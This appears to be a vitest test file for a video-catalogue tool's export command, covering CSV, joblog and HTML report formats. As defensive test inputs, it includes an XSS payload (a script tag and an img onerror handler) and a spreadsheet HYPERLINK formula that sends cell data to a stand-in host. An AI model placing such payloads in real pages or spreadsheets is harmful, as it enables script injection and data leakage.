import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { chromium } from "playwright-core";
import { describe, expect, it, onTestFinished } from "vitest";
import type { Database } from "../../src/database/database.js";
import { makeDatabase } from "../catalogue/world.js";
import { setup } from "./world.js";

const START = Date.parse("2026-11-20T06:00:00Z");
const CHROMIUM = "/usr/bin/chromium";
const NASTY = `</td><script>document.title='owned'</script><img src=http://x.invalid/ onerror=alert(1)> "q" 'a' \u202e\u0007`;

/** `minute state attempt source`, one a video; each took 30 s more than the one before. */
async function setupVideos({ title = "A title", error = "no luck" } = {}) {
  const world = setup();
  const database = await makeDatabase(world.file);
  await addInstance(database, "life-a", 0);
  await addInstance(database, "life-b", 1);
  await addVideo(database, { id: 1, state: "completed", instance: "life-a", title, at: 0, durMs: 30_000 });
  await addVideo(database, { id: 2, state: "completed", instance: "life-b", title: null, at: 10_000, durMs: 60_000 });
  await addVideo(database, { id: 3, state: "failed", instance: "life-a", title, at: 60_000, durMs: 90_000, error });
  await addVideo(database, { id: 4, state: "pending", instance: null, title, at: 0, durMs: 0 });
  await addAttempt(database, { video: 2, instance: "gone", outcome: "died", reason: "its instance died", at: 0 });
  await addAttempt(database, {
    video: 3,
    instance: "life-a",
    outcome: "failed",
    reason: error,
    at: 60_000,
    durMs: 90_000,
  });
  const reason = "/usr/bin/ffmpeg ended with exit code 187: no\tmoov";
  await addAttempt(database, { video: 4, instance: "life-b", outcome: "retry", reason, at: 90_000 });
  const read = (name: string) => readFileSync(join(world.folder, name), "utf8");
  return { ...world, database, read };
}

interface VideoParts {
  id: number;
  state: string;
  instance: string | null;
  title: string | null;
  at: number;
  durMs: number;
  error?: string;
}

async function addVideo(
  database: Database,
  { id, state, instance, title, at, durMs, error }: VideoParts,
): Promise<void> {
  const ended = state !== "pending";
  const times = ended ? [START + at, START + at + durMs] : [null, null];
  await database.batch([
    database.prepare("INSERT INTO videos (id, source, title) VALUES (?, ?, ?)").bind(id, `/v/${id}.mp4`, title),
    database
      .prepare(
        "INSERT INTO hidb_videos (video_id, state, attempt, instance, claimed_at, finished_at, error) VALUES (?, ?, 1, ?, ?, ?, ?)",
      )
      .bind(id, state, instance, ...times, error ?? null),
  ]);
}

interface AttemptParts {
  video: number;
  instance: string;
  outcome: string;
  reason: string;
  at: number;
  durMs?: number;
}

async function addAttempt(database: Database, parts: AttemptParts): Promise<void> {
  const { video, instance, outcome, reason, at, durMs = 4500 } = parts;
  await database
    .prepare(
      "INSERT INTO hidb_attempts (video_id, attempt, instance, outcome, reason, claimed_at, ended_at) VALUES (?, 1, ?, ?, ?, ?, ?)",
    )
    .bind(video, instance, outcome, reason, START + at, START + at + durMs)
    .run();
}

async function addInstance(database: Database, id: string, processId: number): Promise<void> {
  await database
    .prepare(
      `INSERT INTO hidb_instances (id, host, boot, pid, pid_started_at, process_id, state, started_at, lease_until, completed)
       VALUES (?, 'box', 'b', 1, '1', ?, 'working', ?, ?, 1)`,
    )
    .bind(id, processId, START - 1000, START + 200_000)
    .run();
}

function readCsv(text: string): Record<string, string>[] {
  return parse(text, { columns: true, recordDelimiter: "\r\n" });
}

describe("hidb export --format csv", () => {
  it("comes back from a parser as it was, but for texts that a spreadsheet would take for formulas", async () => {
    const formula = '=HYPERLINK("http://x.invalid/?"&A1,"click")';
    const { run } = await setupVideos({ title: formula, error: '@SUM(1;2)\r\n"quoted", and more ' });
    const rows = readCsv((await run(["export", "--format", "csv"])).stdout);
    expect(rows.map(({ title }) => title)).toEqual([`'${formula}`, "", `'${formula}`, `'${formula}`]);
    expect(rows[2]).toMatchObject({ id: "3", error: `'@SUM(1;2)\r\n"quoted", and more ` });
    const raw = readCsv((await run(["export", "--format", "csv", "--raw"])).stdout);
    expect(raw[0]).toMatchObject({ title: formula });
  });
});

describe("hidb export --format joblog", () => {
  it("has a line an attempt in GNU parallel's columns", async () => {
    const { run } = await setupVideos();
    const { stdout } = await run(["export", "--format", "joblog"]);
    const at = (ms: number) => ((START + ms) / 1000).toFixed(3);
    expect(stdout.split("\n")).toEqual([
      "Seq\tHost\tStarttime\tJobRuntime\tSend\tReceive\tExitval\tSignal\tCommand",
      `1\tbox\t${at(0)}\t    30.000\t0\t0\t0\t0\t/v/1.mp4`,
      `2\tgone\t${at(0)}\t     4.500\t0\t0\t-1\t9\t/v/2.mp4`,
      `3\tbox\t${at(10_000)}\t    60.000\t0\t0\t0\t0\t/v/2.mp4`,
      `4\tbox\t${at(60_000)}\t    90.000\t0\t0\t1\t0\t/v/3.mp4`,
      `5\tbox\t${at(90_000)}\t     4.500\t0\t0\t187\t0\t/v/4.mp4`,
      "",
    ]);
    const since = new Date(START + 70_000).toISOString();
    expect((await run(["export", "--format", "joblog", "--since", since])).stdout.split("\n")).toHaveLength(5);
  });
});

describe("hidb export --format html", () => {
  it("sums up the run: states, rate, durations, instances, failures by cause, the longest videos", async () => {
    const { run, read } = await setupVideos({ error: "HTTP 404 for /v/3.mp4" });
    const answer = await run(["export", "--format", "html", "--out", "report.html"]);
    expect(answer).toEqual({ code: 0, stdout: "", stderr: "report on 4 videos written to report.html\n" });
    const page = read("report.html");
    expect(page).toContain("<h1>hidb: 3 of 4 videos done</h1>");
    expect(page).toContain("2 completed</li>");
    expect(page).toMatch(/<dt>Took<\/dt><dd>2 min 30 s/);
    expect(page).toMatch(/<dt>Attempts gone wrong<\/dt><dd>3<small class="soft">1 death /);
    expect(page).toContain("Videos per 2 s: at most 1 completed, 1 failed in all.");
    expect(page).toContain("Histogram of durations: median 1 min, 90 % within 1 min.");
    expect(page.match(/aria-label="Instance \d on box: \d+ % busy\."/g)).toHaveLength(2);
    expect(page).toMatch(/<td class="n">1<\/td><td class="what"><bdi>HTTP 404 for \/v\/3\.mp4<\/bdi>/);
    expect(page.indexOf("<bdi>/v/2.mp4")).toBeLessThan(page.indexOf("<bdi>/v/1.mp4"));
  });

  it("says so of a catalogue that nobody has begun, or that is empty", async () => {
    const { run } = setup();
    await run(["migrate"]);
    expect((await run(["export", "--format", "html"])).stdout).toContain("<h1>hidb: 0 of 0 videos done</h1>");
    await run(["add", "-"], { stdin: "source\nhttp://x/a.mp4\n" });
    const { stdout } = await run(["export", "--format", "html"]);
    expect(stdout).toContain("<h1>hidb: 0 of 1 video done</h1>");
    expect(stdout).not.toMatch(/<h2>|NaN|Infinity|undefined/);
  });

  it("shows only what has ended since a moment, when asked", async () => {
    const { run } = await setupVideos();
    const { stdout } = await run(["export", "--format", "html", "--since", new Date(START + 100_000).toISOString()]);
    expect(stdout).toContain("<h1>hidb: 1 of 2 videos done</h1>");
  });

  it.runIf(existsSync(CHROMIUM))(
    "in a browser asks for nothing, runs nothing, whatever titles and errors hold, and is read by everybody",
    async () => {
      const { run, folder } = await setupVideos({ title: NASTY, error: NASTY });
      await run(["export", "--format", "html", "--out", "report.html"]);
      const browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox"] });
      onTestFinished(() => browser.close());
      for (const [width, colorScheme] of [
        [1280, "light"],
        [390, "dark"],
      ] as const) {
        // axe is put in from outside; the page itself allows no script.
        const page = await browser.newPage({ viewport: { width, height: 900 }, colorScheme, bypassCSP: true });
        const asked: string[] = [];
        page.on("request", (request) => asked.push(request.url()));
        await page.goto(`file://${join(folder, "report.html")}`);
        expect(asked).toHaveLength(1);
        expect(await page.title()).toBe("hidb: 3 of 4 videos done");
        expect(await page.locator("script, img").count()).toBe(0);
        expect(await page.locator("bdi", { hasText: "</td><script>" }).count()).toBeGreaterThan(2);
        expect(await page.evaluate("document.documentElement.scrollWidth - innerWidth")).toBe(0);
        await page.addScriptTag({ path: createRequire(import.meta.url).resolve("axe-core/axe.min.js") });
        const violations = await page.evaluate("axe.run().then((found) => found.violations.map((one) => one.id))");
        expect(violations).toEqual([]);
      }
    },
  );

  it("takes 100,000 videos in less than 5 MB", async () => {
    const { run, database, folder } = await setupVideos({ title: NASTY });
    const ids = JSON.stringify(Array.from({ length: 100_000 }, (_, at) => at + 1001));
    await database.batch([
      database
        .prepare(
          `INSERT INTO hidb_videos (video_id, state, attempt, instance, claimed_at, finished_at)
           SELECT value, 'completed', 1, 'life-a', ?1 + value * 100, ?1 + value * 100 + value % 7919 FROM json_each(?2)`,
        )
        .bind(START, ids),
      database.prepare("INSERT INTO videos (id, source) SELECT value, 's' || value FROM json_each(?)").bind(ids),
    ]);
    const answer = await run(["export", "--format", "html", "--out", "big.html"]);
    expect(answer.stderr).toBe("report on 100,004 videos written to big.html\n");
    expect(statSync(join(folder, "big.html")).size).toBeLessThan(5e6);
  });
});

describe("hidb export --out", () => {
  it("replaces no file unless it is told to", async () => {
    const { run, read, folder } = await setupVideos();
    writeFileSync(join(folder, "kept.csv"), "mine");
    const refused = await run(["export", "--format", "csv", "--out", "kept.csv"]);
    expect(refused).toMatchObject({ code: 3, stdout: "" });
    expect(refused.stderr).toMatch(
      /^error: expected --out to name a file that is not there yet, got .*kept\.csv\nfix: {3}.*--force/,
    );
    expect(read("kept.csv")).toBe("mine");
    expect((await run(["export", "--format", "csv", "--out", "kept.csv", "--force"])).code).toBe(0);
    expect(read("kept.csv")).toMatch(/^id,source/);
    expect(readdirSync(folder).filter((name) => name.includes(".part"))).toEqual([]);
  });

  it("refuses flags that the format has no use for", async () => {
    const { run } = await setupVideos();
    for (const flags of [["--format", "html", "--state", "failed"], ["--since", "1d"], ["--raw"]]) {
      const answer = await run(["export", ...flags]);
      expect(answer).toMatchObject({ code: 2, stdout: "" });
      expect(answer.stderr).toMatch(/^error: expected flags that go with --format (html|ndjson), got --/);
    }
  });
});
